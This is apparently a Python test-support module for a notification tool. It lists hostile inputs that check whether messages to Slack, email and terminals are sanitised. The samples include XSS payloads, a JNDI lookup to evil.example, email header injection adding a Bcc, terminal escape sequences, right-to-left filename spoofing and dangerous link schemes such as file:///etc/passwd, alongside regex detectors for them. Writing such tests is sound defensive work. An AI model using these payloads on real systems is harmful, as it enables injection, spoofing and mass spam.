"""What a feed may say to hurt its readers, and how to see that it does not: for Slack, email and terminal alike.

::

    @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
    def test_a_feed_cannot_hurt_the_reader_of_a_letter(text: str) -> None:
        assert harm(render(hostile(text))) == []
"""

import re
from dataclasses import replace
from urllib.parse import urlsplit

from tests.notify.samples import AMAZON, MORATORIUM, NOTICE, report
from watcher.core.alert import Alert
from watcher.core.message import Batch, Bulletin, Message, Reply

HOSTILE = {
    "a channel's bell": "<!channel> <!here|x> <!everyone> <!subteam^S1|@team>",
    "mentions": "<@U0123ABCD> <@U0123ABCD|anna> <#C0123ABCD|general>",
    "mentions in words": "@channel @here @Everyone @group @anna",
    "a fullwidth bell": "\uff1c!channel\uff1e \uff20channel",
    "a bell in pieces": "<\u200b!channel> <!chan\u00adnel> <\x00!channel> @\u200bhere @he\u2060re",
    "an escaped bell": "&lt;!channel&gt; &#60;!here&#62; &amp;lt;!channel&amp;gt;",
    "markup of Slack": "*bold* _slanted_ ~struck~ `code` ```block``` > quoted :smile: <http://evil.example|amazon.com>",
    "a date of Slack": "<!date^1392734382^{date}^https://evil.example|date>",
    "HTML": '<script>alert(1)</script><img src=x onerror="alert(1)"><style>*{display:none}</style><a href="//evil">',
    "the end of an attribute": "\" onmouseover=\"alert(1)\" x=' onload='alert(1)' </title></td></table>",
    "templates": "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example/x} %s %(key)s {alert.key}",
    "a new header": "Subject\r\nBcc: everyone@evil.example\r\n\r\n<html>",
    "lines": "one\r\ntwo\rthree\nfour\u2028five\u2029six\x0bseven\x0ceight\x85nine",
    "an encoded word": "=?utf-8?q?=0D=0ABcc=3A_everyone=40evil=2Eexample?=",
    "the end of a mail": "\r\n.\r\nQUIT\r\n",
    "colours": "\x1b[31mred\x1b[0m \x9b1mbold \x1b[2J\x1b[H",
    "a terminal's title": "\x1b]0;owned\x07 \x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1bP+q544e\x1b\\",
    "keys that type": "\x08\x08\x08 \x7f \x04 \x1a \x03 \x00 \x1bc",
    "letters from right to left": "\u202egnp.exe\u202c \u2066x\u2069 \u200fx\u061c \u202dfdp.txt",
    "what is not seen": "zero\u200bwidth\u200d \ufeff \u2060 \u00ad \u115f\u3164\uffa0 \u2800 \U000e0041\U000e007f",
    "halves of letters": "\ud83d \udc4d \ud800",
    "a tower of marks": "e" + "\u0301" * 500,
    "no words": "",
    "blanks": " \t\r\n\u00a0\u3000 ",
    "one long word": "x" * 60_000,
    "many words": "word " * 20_000,
    "ampersands": "&" * 20_000,
    "wide letters": "\U0001f600" * 20_000,
    "a thousand bells": "<!channel>" * 5_000,
}

# None of them leads to the web.
HOSTILE_LINKS = (
    "javascript:alert(1)",
    " java\nscript:alert(1)",
    "JaVaScRiPt:alert(1)//https://amazon.com",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "mailto:anna@example.org?bcc=all",
    "slack://user?team=T1&id=U1",
    "ftp://evil.example/",
    "//evil.example/",
    "https://",
    "https:///evil",
    "http://[broken",
    "\x1b]8;;http://evil.example\x07",
)

# In Slack's own text: a command, a bell, a bare bracket or ampersand.
_RINGS = re.compile(r"<[!@#]|[@](here|channel|everyone|group)\b", re.IGNORECASE)
_BARE = re.compile(r"[<>]|&(?!(?:amp|lt|gt);)")
_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]")
_DIRECTION = re.compile("[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]")
_REMAINS = re.compile(r"\[31m|\[2J|\]0;|\]8;;")


def harm(text: str) -> list[str]:
    """What in a text moves a cursor, turns letters round, or hides: for every channel."""
    found = [("control", _CONTROL), ("direction", _DIRECTION), ("the rest of a sequence", _REMAINS)]
    return [name for name, pattern in found if pattern.search(text)]


def slack_harm(text: str, *, interpreted: bool = False) -> list[str]:
    """The same for Slack, which rings for commands; ``interpreted``: Slack also reads ``&``, ``<`` and ``>`` in it."""
    found = [*harm(text), *(["a bell"] if _RINGS.search(text) else [])]
    return [*found, *(["a bare bracket or ampersand"] if interpreted and _BARE.search(text) else [])]


def is_web(url: str) -> bool:
    """Whether an address leads to a host on the web."""
    parts = urlsplit(url)
    return parts.scheme in {"http", "https"} and bool(parts.hostname) and not re.search(r"[<>\"|\s]", url)


def hostile_alert(text: str, changes: int = 1) -> Alert:
    """An alert in which every text that can come from outside is this one."""
    one = replace(MORATORIUM, product=text, jurisdiction=text, condition=text, quote=text, before=f"{text} before")
    outside = replace(AMAZON, vendor_name=text, title=text, source_name=text, reason=text, rule=text, own_voice=False)
    return replace(outside, changes=(one,) * changes)


def hostile_messages(text: str, url: str | None = AMAZON.url) -> list[Message]:
    """Every kind of message, with this text and address wherever something from outside can stand."""
    alert = replace(hostile_alert(text, 12), url=url)
    reports = tuple(
        report(alert, number, source_name=text, title=text, quote=text, url=url, own_voice=number == 9)
        for number in range(1, 10)
    )
    bulletin = Bulletin(alert, reports, (text,) * 9, late=None)
    notice = replace(NOTICE, title=text, lines=(text,) * 30, url=url)
    return [bulletin, Batch((bulletin,) * 12), *(Reply(alert, one, "1.0") for one in (reports[0], reports[8])), notice]
